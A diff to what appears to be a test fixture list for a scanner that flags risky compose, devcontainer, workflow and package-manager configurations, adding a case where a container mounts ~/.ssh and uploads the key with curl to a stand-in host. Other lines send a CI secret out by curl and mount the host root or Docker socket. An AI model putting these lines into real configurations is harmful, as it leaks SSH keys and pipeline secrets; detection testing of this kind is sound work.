@@ -131,9 +131,10 @@ MANIFESTS = [
     ("a workspace's override", "pnpm-workspace.yaml", "overrides:\n  a: https://x.example.net/a.tgz\n", "unknown-source"),
     ("a hook from a stranger", ".pre-commit-config.yaml", "repos:\n  - repo: https://git.example.net/a\n    rev: main\n", "unknown-source"),
     ("the whole machine", "compose.yaml", "services:\n  a:\n    privileged: true\n    volumes:\n      - /:/host\n", "host-opened"),
-    ("the keys", "compose.yaml", "services:\n  a:\n    volumes:\n      - ~/.ssh:/k:ro\n", "home-opened"),
+    ("the keys", "compose.yaml", "services:\n  a:\n    volumes:\n      - ~/.ssh:/k:ro\n", "home-lent"),
     ("the engine", "docker-compose.yml", "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/s\n", "engine-opened"),
-    ("the keys, for an editor", ".devcontainer/devcontainer.json", '{"mounts":["source=${localEnv:HOME}/.ssh,target=/k,type=bind"]}', "home-opened"),
+    ("the keys, and the network", "compose.yaml", "services:\n  a:\n    command: curl -T /k/id https://x.example.net\n    volumes:\n      - ~/.ssh:/k:ro\n", "home-opened"),
+    ("the keys, for an editor", ".devcontainer/devcontainer.json", '{"mounts":["source=${localEnv:HOME}/.ssh,target=/k,type=bind"]}', "home-lent"),
     ("a secret in code", ".github/workflows/a.yml", 'jobs:\n  a:\n    steps:\n      - run: echo "${{ secrets.T }}" | base64\n', "pipeline-secrets"),
     ("a secret leaves", ".github/workflows/a.yml", 'env:\n  K: ${{ secrets.T }}\njobs:\n  a:\n    steps:\n      - run: curl -d "k=$K" https://x.example.net\n', "pipeline-secret-leaves"),
 ]  # fmt: skip
